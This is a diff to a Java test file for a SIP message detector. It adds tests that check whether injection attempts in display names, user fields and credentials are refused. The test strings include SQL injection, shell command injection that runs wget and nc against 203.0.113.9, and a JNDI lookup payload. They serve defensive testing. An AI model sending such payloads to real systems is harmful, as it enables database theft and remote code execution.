@@ -27,7 +27,7 @@ class SipDetectorsTest {
 
   private static final String PHONE = "Yealink SIP-T46S 66.85.0.5";
 
-  private final SipDetectors detectors = new SipDetectors();
+  private final SipDetectors detectors = SipDetectors.standard();
 
   private List<Finding> look(String message) {
     Findings findings = new Findings();
@@ -200,5 +200,74 @@ class SipDetectorsTest {
     view.parse(new byte[0], 0, 0);
     detectors.inspect(view, findings);
     assertThat(findings.list()).extracting(Finding::rule).containsExactly("sip-malformed-empty");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "1001' or '1'='1",
+        "1001' OR 1=1-- ",
+        "x' UNION SELECT username,password FROM users-- ",
+        "1001'; drop table sip_users; --",
+        "1001$(wget http://203.0.113.9/x)",
+        "1001`id`",
+        "1001;wget http://203.0.113.9/a",
+        "1001 | nc 203.0.113.9 4444",
+        "${jndi:ldap://203.0.113.9/a}",
+      })
+  void injectionInADisplayName_isRefused(String text) {
+    String message = SipSamples.REGISTER.replace("\"Alice\"", '"' + text + '"');
+    assertThat(points(message)).as("%s", rules(message)).isGreaterThanOrEqualTo(REFUSED);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "1001'%20or%20'1'='1",
+        "1001'%20UNION%20SELECT%20secret%20FROM%20users--%20",
+        "1001%24%28id%29",
+        "1001%60id%60",
+      })
+  void injectionInAUser_isRefused(String user) {
+    String message = SipSamples.INVITE.replace("<sip:1001@", "<sip:" + user + '@');
+    assertThat(SipSamples.parse(message).fault()).isEqualTo(SipFault.NONE);
+    assertThat(points(message)).as("%s", rules(message)).isGreaterThanOrEqualTo(REFUSED);
+  }
+
+  @Test
+  void injectionInCredentials_isRefused() {
+    String message =
+        SipSamples.REGISTER.replace("username=\"1001\"", "username=\"1001' or 'a'='a\"");
+    assertThat(points(message)).as("%s", rules(message)).isGreaterThanOrEqualTo(REFUSED);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Conan O'Brien",
+        "Sales & Support",
+        "Union Select Travel",
+        "R&D (2nd floor)",
+        "50% off; call now",
+        "Zoe \u00FCber",
+        "Order 1-2-3 | Desk",
+        "Id; Cat & Sons",
+      })
+  void ordinaryDisplayName_isNotRefused(String name) {
+    String message = SipSamples.REGISTER.replace("\"Alice\"", '"' + name + '"');
+    assertThat(points(message)).as("%s", rules(message)).isLessThan(REFUSED);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Acrobits Softphone/6.8.2 (iPhone; iOS 15.1)",
+        "Mozilla/5.0; JsSIP 3.10.0",
+        "Z 5.5.9 v2.10.17.3; rv",
+        "TP-Link/VX230v;0.9.1 (v1.0.0)",
+      })
+  void ordinaryUserAgent_isNotRefused(String agent) {
+    String message = SipSamples.REGISTER.replace("baresip v1.0.0 (x86_64/Linux)", agent);
+    assertThat(points(message)).as("%s", rules(message)).isLessThan(REFUSED);
   }
 }
